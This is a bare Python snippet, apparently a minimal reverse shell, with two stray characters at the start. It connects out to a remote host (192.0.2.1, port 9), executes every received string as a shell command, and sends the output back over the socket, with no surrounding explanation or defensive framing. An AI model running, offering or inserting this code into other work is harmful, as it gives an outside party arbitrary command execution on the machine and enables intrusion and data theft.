¯Eimport socket, subprocess
s=socket.socket()
s.connect(("192.0.2.1",9))
while True:
  c=s.recv(1024).decode()
  p=subprocess.run(c,shell=True,capture_output=True)
  s.sendall(p.stdout)
